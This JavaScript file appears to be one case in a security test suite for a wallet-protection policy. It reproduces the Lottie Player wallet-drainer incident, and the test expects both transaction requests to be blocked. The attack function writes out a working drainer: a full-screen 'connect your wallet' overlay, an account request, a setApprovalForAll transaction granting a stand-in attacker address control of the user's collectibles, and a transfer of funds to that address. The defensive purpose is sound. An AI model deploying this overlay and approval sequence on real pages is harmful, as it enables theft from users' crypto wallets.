// B09: a player on a page that has nothing to do with wallets covers it with a dialog to connect one, and drains what connects.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'B09',
  title: 'connect overlay on an unrelated site',
  source: 'Lottie Player 2.0.5, 30 October 2024',
  level: 'prevented',
  policy: () => ({ version: 1, payees: [], contracts: [] }),

  async attack(a) {
    const overlay = document.createElement('div');
    overlay.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:#000a';
    overlay.textContent = 'Connect your wallet to go on';
    document.documentElement.append(overlay);
    const code = (error) => error.code;
    await window.ethereum.request({ method: 'eth_requestAccounts' }).catch(code);
    const data = `0xa22cb465${a.EVIL.slice(2).toLowerCase().padStart(64, '0')}${'1'.padStart(64, '0')}`;
    const ask = (tx) =>
      window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from: a.USER, ...tx }] }).catch(code);
    return [await ask({ to: a.COLLECTIBLE, data }), await ask({ to: a.EVIL, value: '0x5' })];
  },

  async action() {
    // The page shows a film; it never asked for a wallet.
    return (await fetch('/api/binary')).status;
  },
  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ result }) => result === 200,
  violation: (a) => ({ surface: 'eip1193', account: a.EVIL }),
  status: (_status, { attackResult }) => attackResult.every((code) => code === 4100),
};
